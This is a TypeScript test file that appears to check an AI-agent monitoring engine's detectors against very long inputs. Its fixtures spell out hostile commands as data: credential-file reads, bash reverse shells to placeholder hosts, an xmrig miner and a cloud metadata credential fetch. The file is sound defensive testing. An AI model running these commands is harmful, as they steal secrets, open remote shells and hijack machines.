/** The shipped detectors on acts that are long in every part: what an agent writes must neither switch one off nor lose its alert. */
import { createAnalyser } from '../analysis/analyse';
import type { AgentEvent } from '../contracts/event';
import { DETECTORS } from '../detectors/catalogue';
import { agentEvent, exec } from '../test/support/agent-events';
import { engineOf, run } from '../test/support/engine';

const long = 'long'.repeat(900);
const folders = 'folder/'.repeat(500);

const read = (path: string) => agentEvent({ action: { type: 'file.read', tool: 'Read', path } });
const fetch = (url: string) => agentEvent({ action: { type: 'net.fetch', tool: 'Fetch', url } });

const ACTS: readonly (readonly [string, AgentEvent])[] = [
  ['a long path that is read', read(`/home/dev/${folders}.aws/credentials`)],
  ['a long path in a command', exec(`cat /home/dev/${folders}.ssh/id_rsa`)],
  ['a long command around it', exec(`${'true; '.repeat(1_500)} cat ~/.aws/credentials`)],
  ['many files', exec(`cat ${Array.from({ length: 80 }, (_, n) => `/home/u${n}/.aws/credentials`).join(' ')}`)],
  ['a shell to a long host', exec(`bash -i >& /dev/tcp/${'long.'.repeat(40)}example.net/4444 0>&1`)],
  ['a shell with a long name', exec(`/opt/${folders}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`)],
  [
    'many shells',
    exec(Array.from({ length: 80 }, (_, n) => `bash -i >& /dev/tcp/203.0.113.7/${4000 + n} 0>&1`).join('; ')),
  ],
  ['a miner with a long pool', exec(`./xmrig -o stratum+tcp://${long}.example.net:3333 -u x`)],
  ['a miner in a long folder', exec(`/opt/${folders}xmrig -o stratum+tcp://pool.example.net:3333 -u x`)],
  [
    'a long address of the metadata service',
    fetch(`http://169.254.169.254/latest/meta-data/iam/security-credentials/${long}`),
  ],
];

test.each(ACTS)('%s', (_, event) => {
  const { findings, counts } = run([event], () => engineOf(DETECTORS, { analyse: createAnalyser() }));
  expect(counts.filter(({ name }) => name === 'gander_detector_failures_total')).toEqual([]);
  expect(findings.length).toBeGreaterThan(0);
  for (const finding of findings) {
    const texts = [finding.title, finding.why, finding.scope, ...Object.values(finding.entities)];
    expect(Math.max(...texts.map((text) => text.length))).toBeLessThanOrEqual(1_000);
  }
});

test('a command over the bounds of the analysis is counted', () => {
  const many = Array.from({ length: 10_000 }, (_, n) => `make t${n}`).join('; ');
  const event = exec(`${many}; cat ~/.aws/credentials`);
  const { counts } = run([event], () => engineOf(DETECTORS, { analyse: createAnalyser() }));
  expect(counts).toContainEqual(expect.objectContaining({ labels: { result: 'analysed-in-part' }, by: 1 }));
});
